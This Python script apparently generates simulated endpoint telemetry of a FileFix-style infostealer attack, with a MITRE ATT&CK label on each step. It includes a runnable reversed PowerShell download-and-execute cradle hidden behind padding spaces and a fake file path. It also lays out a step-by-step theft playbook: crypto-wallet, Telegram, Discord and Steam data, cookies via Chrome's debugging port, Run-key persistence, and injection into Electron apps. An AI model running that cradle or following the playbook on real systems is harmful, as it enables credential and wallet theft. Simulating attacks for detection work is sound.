"""A page has the user paste a "path" into the browser's file dialog: hidden PowerShell fetches Node and a script that
steals wallets, messengers, games and notes, and puts code into Electron programs. It resembles FileFix campaigns with
Node stealers."""
from scenery import Desktop

SETTING = {"start": "2025-07-16T19:21:08", "user": "DESKTOP-4K1QH7L\\Tomasz", "home": "C:\\Users\\Tomasz",
           "computer": "DESKTOP-4K1QH7L", "os_version": (10, 0, 26100)}
MICROSOFT = {"company": "Microsoft Corporation"}
GOOGLE = {"company": "Google LLC", "description": "Google Chrome", "version": "138.0.7204.101"}
NODE = {"company": "Node.js", "description": "Node.js JavaScript Runtime", "version": "22.11.0"}
TYPED = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Explorer\TypedPaths"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
REVERSED = "'XEI|)sj.tes/yrevocer/elpmaxe.evirderahs//:sptth(gnirtSdaolnwoD.)tneilCbeW.teN tcejbO-weN('"
PANEL = ("203.0.113.41", 443)
STAGE = ("198.51.100.207", 443)
WALLETS = {"nkbihfbeogaeaoehlefnkodbefgpgknn": "MetaMask", "bfnaelmomeimhlpmgjnjophhpkkoljpa": "Phantom",
           "egjidjbpglichdcondbcbdnbeeppgdph": "Trust"}


def done_by(c, *processes):
    """The doers of behaviours whose processes start within them."""
    for behaviour in c.behaviours:
        behaviour.pids = behaviour.pids or {process.pid for process in processes}


def paste(c, chrome):
    """What is pasted into the dialog's address bar runs as a child of the browser, and is remembered."""
    line = ("Powershell.exe -w 1 -nop -c \"$k=%s;iex(-join($k[-1..-($k.Length)]))\"" % REVERSED
            + " " * 60 + r"# C:\company\internal-secure\filedrive\Umowa.docx")
    with c.behaviour("a line pasted into the browser's file dialog starts PowerShell", "high",
                     ("T1204.004", "T1059.001"), (), ("TypedPaths", "chrome.exe", "Umowa.docx")), \
            c.behaviour("PowerShell turns a reversed text round and runs it, without a window", "high",
                        ("T1027.010", "T1027", "T1059.001", "T1564.003", "T1140"), (), ("-join", "-w 1", "iex")):
        c.set_value(chrome, TYPED + r"\url1", "REG_SZ", line)
        shell = c.spawn(chrome, c.system_root + r"\System32\WindowsPowerShell\v1.0\powershell.exe", line,
                        directory=c.home + "\\", **MICROSOFT)
        c.load(shell, r"C:\Windows\assembly\NativeImages_v4.0.30319_64\System.Manaa57fc8cc#\5f1d"
                      r"\System.Management.Automation.ni.dll")
    done_by(c, chrome, shell)
    return shell


def fetch_node(c, shell, home):
    """Node comes as a zip from its own site, the script from another."""
    c.host("192.0.2.80", "nodejs.org")
    zipped = c.home + r"\AppData\Local\Temp\n22.zip"
    with c.behaviour("PowerShell fetches Node as a zip and unpacks it into a folder of Local", "medium",
                     ("T1105", "T1059.007"), shell, ("node.exe", "n22.zip")):
        c.exchange(shell, ("192.0.2.80", 443), 51001, [520, 310], [16_000] * 8)
        c.drop(shell, zipped, 1_900_000, chunk=262_144)
        c.folder(shell, home)
        c.read(shell, zipped, 1_900_000, chunk=262_144)
        c.drop(shell, home + r"\node.exe", 2_400_000, chunk=262_144)
        c.delete(shell, zipped)
    c.exchange(shell, STAGE, 51002, [540, 290], [15_800, 15_800, 9_214])
    c.drop(shell, home + r"\cfg.log", 38_900)


def take_wallets(c, node, stage):
    """Wallets of the browser's extensions and of programs."""
    settings = c.home + r"\AppData\Local\Google\Chrome\User Data\Default\Local Extension Settings"
    with c.behaviour("reads and copies the stores of wallet extensions", "high",
                     ("T1005", "T1555.003", "T1555", "T1552.001"), node, tuple(WALLETS) + ("Local Extension Settings",)):
        for key, name in WALLETS.items():
            c.folder(node, stage + "\\w\\" + name)
            for part in ("000003.log", "CURRENT", "MANIFEST-000001", "000005.ldb"):
                c.read(node, settings + "\\" + key + "\\" + part, 12_000)
                c.drop(node, stage + "\\w\\" + name + "\\" + part, 12_000)
    roaming = c.home + r"\AppData\Roaming"
    with c.behaviour("reads wallets of Exodus, Electrum and Atomic", "high", ("T1005", "T1552.001", "T1555"), node,
                     ("Exodus", "Electrum", "atomic")):
        for path in (r"\Exodus\exodus.wallet\seed.seco", r"\Exodus\exodus.wallet\passphrase.json",
                     r"\Electrum\wallets\default_wallet", r"\atomic\Local Storage\leveldb\000004.log"):
            c.read(node, roaming + path, 9_300)
    c.drop(node, stage + r"\w\desk.json", 21_000)


def take_messengers(c, node, stage):
    """Sessions of Telegram and Discord."""
    roaming = c.home + r"\AppData\Roaming"
    tdata = roaming + r"\Telegram Desktop\tdata"
    with c.behaviour("copies the session of Telegram", "high", ("T1005", "T1539", "T1528", "T1552.001"), node, "tdata"):
        c.folder(node, stage + r"\tg")
        for part in ("key_datas", r"D877F783D5D3EF8Cs", r"D877F783D5D3EF8C\maps", r"D877F783D5D3EF8C\configs"):
            c.read(node, tdata + "\\" + part, 4_100)
            c.drop(node, stage + r"\tg" + "\\" + part.replace("\\", "_"), 4_100)
    with c.behaviour("reads Discord's tokens", "high", ("T1528", "T1539", "T1552.001"), node, ("discord", "leveldb")):
        c.read(node, roaming + r"\discord\Local State", 900)
        for part in ("000012.log", "000014.ldb", "000015.ldb"):
            c.read(node, roaming + r"\discord\Local Storage\leveldb" + "\\" + part, 31_000)
    with c.behaviour("reads Steam's machine token and log-ins", "high", ("T1528", "T1539", "T1552.001", "T1005"), node,
                     ("ssfn", "loginusers.vdf")):
        c.read(node, r"C:\Program Files (x86)\Steam\ssfn2841093378501927743", 2_048)
        c.read(node, r"C:\Program Files (x86)\Steam\config\loginusers.vdf", 610)
        c.read(node, r"C:\Program Files (x86)\Steam\config\config.vdf", 4_800)
        c.read(node, c.home + r"\AppData\Local\Steam\local.vdf", 820)


def take_notes(c, node, stage):
    """Notes whose names promise passwords."""
    with c.behaviour("looks out files named for passwords and seed phrases, and copies them", "medium",
                     ("T1552.001", "T1005"), node, ("hasła.txt", "passwords.txt", "seed phrase.txt", "Baza.kdbx")):
        c.folder(node, stage + r"\files")
        for folder, name in (("Desktop", "hasła.txt"), ("Desktop", "passwords.txt"), ("Documents", "seed phrase.txt"),
                             ("Documents", "Baza.kdbx"), ("Downloads", "backup codes.txt")):
            c.read(node, c.home + "\\" + folder + "\\" + name, 2_300)
            c.drop(node, stage + "\\files\\" + name, 2_300)


def debug_browser(c, node):
    """The browser is closed and started anew, without a window and with a debugging port that gives its cookies."""
    system32 = c.system_root + "\\System32\\"
    with c.behaviour("closes the browser by force", "medium", ("T1489", "T1539", "T1185"), node, ("taskkill", "chrome.exe")):
        shell = c.spawn(node, system32 + "cmd.exe", r'C:\Windows\system32\cmd.exe /d /s /c "taskkill /F /IM chrome.exe /T"',
                        **MICROSOFT)
        killer = c.spawn(shell, system32 + "taskkill.exe", "taskkill  /F /IM chrome.exe /T", **MICROSOFT)
        c.exit(killer)
        c.exit(shell)
    done_by(c, node, shell, killer)
    data = c.home + r"\AppData\Local\Google\Chrome\User Data"
    with c.behaviour("starts the browser headless with a debugging port on the user's profile", "high",
                     ("T1539", "T1185", "T1555.003"), node, ("--remote-debugging-port", "9229")):
        browser = c.spawn(node, CHROME,
                          '"%s" --headless --remote-debugging-port=9229 --remote-allow-origins=* --user-data-dir="%s" '
                          '--window-position=-2400,-2400 --disable-gpu' % (CHROME, data), **GOOGLE)
        c.read(browser, data + r"\Local State", 8_200)
        c.read(browser, data + r"\Default\Network\Cookies", 131_072)
        c.exchange(node, ("127.0.0.1", 9229), 51030, [410, 96], [3_900, 64_000])
    done_by(c, node, browser)
    c.exit(browser)


def infect_electron(c, node):
    """Code for programs that run JavaScript of the user's own folder."""
    core = c.home + r"\AppData\Local\Discord\app-1.0.9199\modules\discord_desktop_core-1\discord_desktop_core\index.js"
    with c.behaviour("replaces a script of Discord with its own", "high", ("T1554", "T1528"), node, r"index.js"):
        c.read(node, core, 40)
        c.drop(node, core, 22_640, opened=3)
    asar = c.home + r"\AppData\Local\exodus\app-25.28.4\resources\app.asar"
    with c.behaviour("replaces the program text of the Exodus wallet", "high", "T1554", node, "app.asar"):
        c.read(node, asar, 1_300_000, chunk=262_144)
        c.drop(node, asar, 1_310_000, chunk=262_144, opened=3)


def story(c):
    desktop = Desktop(c)
    home, stage = c.home + r"\AppData\Local\nd22", c.home + r"\AppData\Local\Temp\k7Qz"
    desktop.murmur(4)
    chrome = c.spawn(desktop.explorer, CHROME, '"%s" ' % CHROME, **GOOGLE)
    c.exchange(chrome, ("192.0.2.33", 443), 50980, [520, 900], [12_000, 9_000])
    desktop.murmur(3)
    shell = paste(c, chrome)
    desktop.resolve()
    c.host(STAGE[0], "sharedrive.example")
    c.exchange(shell, STAGE, 51000, [510, 260], [7_420])
    fetch_node(c, shell, home)
    system32 = c.system_root + "\\System32\\"
    line = 'conhost.exe --headless "%s\\node.exe" "%s\\cfg.log"' % (home, home)
    with c.behaviour("starts the new Node with a script just written, by conhost without a window", "high",
                     ("T1059.007", "T1564.003", "T1202"), (), ("conhost", "--headless", "cfg.log", "node.exe")):
        hider = c.spawn(shell, system32 + "conhost.exe", line, **MICROSOFT)
        node = c.spawn(hider, home + r"\node.exe", '"%s\\node.exe" "%s\\cfg.log"' % (home, home), **NODE)
        c.read(node, home + r"\cfg.log", 38_900)
    done_by(c, shell, hider, node)
    with c.behaviour("starts Node without a window at each logon", "high", "T1547.001", shell, "NodeRuntimeSvc"):
        c.set_value(shell, RUN + r"\NodeRuntimeSvc", "REG_SZ", line)
    c.exit(shell)
    c.folder(node, stage)
    take_wallets(c, node, stage)
    take_messengers(c, node, stage)
    take_notes(c, node, stage)
    debug_browser(c, node)
    desktop.murmur(3)
    zipped = c.home + r"\AppData\Local\Temp\PL_Tomasz_k7Qz.zip"
    with c.behaviour("packs what it took into a zip in Temp and sends that", "medium",
                     ("T1041", "T1020", "T1560.002", "T1560", "T1074.001"), node, ("k7Qz.zip", PANEL[0])):
        for part in (r"\w\desk.json", r"\tg\key_datas", r"\files\hasła.txt", r"\files\Baza.kdbx"):
            c.read(node, stage + part, 4_000)
        c.drop(node, zipped, 612_000)
        c.read(node, zipped, 612_000)
        c.exchange(node, PANEL, 51044, [517, 640] + [65_536] * 9 + [22_176], [230])
        c.delete(node, zipped)
    infect_electron(c, node)
    desktop.murmur(3)
